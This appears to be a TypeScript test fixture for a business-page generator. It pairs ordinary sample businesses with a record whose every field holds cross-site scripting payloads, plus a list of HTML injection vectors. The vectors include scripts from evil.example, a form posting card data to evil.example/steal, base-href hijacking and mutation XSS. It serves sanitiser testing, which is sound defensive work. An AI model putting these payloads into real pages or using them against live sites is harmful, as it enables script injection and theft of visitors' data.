/** Businesses for the site tests and benchmark: ordinary ones and ones whose facts attack the page. */
import { SiteFacts } from "../../schema/sites";

export const PLUMBER = SiteFacts.parse({
  name: "Rio Grande Plumbing & Drain",
  category: "Plumber",
  address: "1200 E 6th St",
  city: "Austin",
  state: "TX",
  zip: "78702",
  phone: "(512) 555-0142",
  website: "https://riograndeplumbing.example",
  email: "office@riograndeplumbing.example",
  rating: 4.8,
  reviewCount: 212,
  hours: ["Mon 7–6", "Tue 7–6", "Wed 7–6", "Thu 7–6", "Fri 7–6", "Sat 8–2", "Sun Closed"],
  mapsUrl: "https://maps.google.com/?cid=1234567890",
  reviews: [
    {
      author: "Dana P.",
      rating: 5,
      text: "Came out the same evening for a burst pipe and left the kitchen cleaner than they found it.",
    },
    { author: "Marco", rating: 4, text: "Fair price for a water heater swap. Would call again." },
    { author: "", rating: null, text: "Friendly and on time." },
  ],
  claimUrl: "https://rowpilot.example/claim/rio-grande",
});

export const BAKERY = SiteFacts.parse({
  name: "Little Crumb Bakery",
  category: "Bakery",
  city: "Portland",
  state: "OR",
  phone: "503-555-0199",
  rating: 4.6,
  reviewCount: 88,
  reviews: [{ author: "Jess", rating: 5, text: "The cardamom buns are worth the line every Saturday morning." }],
});

export const SALON = SiteFacts.parse({
  name: "Juniper Day Spa",
  category: "Day spa",
  address: "44 Pearl St",
  city: "Boulder",
  state: "CO",
  hours: ["Tue–Sat 10–7"],
  reviews: [],
});

/** No category, no reviews, no phone: the least a Businesses row can hold. */
export const BARE = SiteFacts.parse({ name: "Harbor Notary" });

const SCRIPT_BREAKOUT = "</script><script>alert(1)</script>";
const ATTRIBUTE_BREAKOUT = `"><img src=x onerror=alert(1)>`;

/** Every field a person or a scraped page could fill holds an attack. */
export const HOSTILE = SiteFacts.parse({
  name: `${SCRIPT_BREAKOUT}${ATTRIBUTE_BREAKOUT}`,
  category: `Plumber ${ATTRIBUTE_BREAKOUT}`,
  address: `1 Main St ${SCRIPT_BREAKOUT}`,
  city: `<svg onload=alert(1)>`,
  state: "TX",
  zip: "78702",
  phone: `555-0100" onclick="alert(1)`,
  website: "javascript:alert(1)",
  email: `x@y.com"><script>alert(1)</script>`,
  rating: 5,
  reviewCount: 3,
  hours: [`Mon ${SCRIPT_BREAKOUT}`],
  mapsUrl: "javascript:alert(document.cookie)",
  reviews: [
    { author: ATTRIBUTE_BREAKOUT, rating: 5, text: `${SCRIPT_BREAKOUT} Great work!` },
    { author: "<b onmouseover=alert(1)>x</b>", rating: 4, text: "<!-- --><script>alert(2)</script>" },
  ],
  claimUrl: "javascript:alert('claim')",
});

/** Pages a model could write, each trying one way to run code or leave the page. */
export const ATTACKS: Record<string, string> = {
  "a script": "<p>Hi</p><script>alert(1)</script>",
  "a script with a source": '<script src="https://evil.example/x.js"></script>',
  "a script dressed as JSON-LD": '<script type="application/ld+json"></script><script>alert(1)</script>',
  "JSON-LD that bends the parser": '<script type="application/ld+json"><!--<script>{"a":1}</script>',
  "inline handlers": `<img src="https://x.example/a.png" onerror="alert(1)"><body onload="alert(2)"><a href="#" OnClick="x()">a</a>`,
  "javascript: links": `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="jav&#x09;ascript:alert(1)">c</a>`,
  "data: links": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  "a form posting elsewhere":
    '<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay</button></form>',
  "a button posting elsewhere": '<button formaction="https://evil.example/">Go</button>',
  frames: '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
  "a base URL": '<head><base href="https://evil.example/"></head><a href="claim">Claim</a>',
  "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "a style in SVG": "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "a style in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
  "a noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "a textarea mutation": "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
  "an SVG link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
};

/** The ordinary businesses, one per template family. */
export const SAMPLES = [PLUMBER, BAKERY, SALON, BARE];
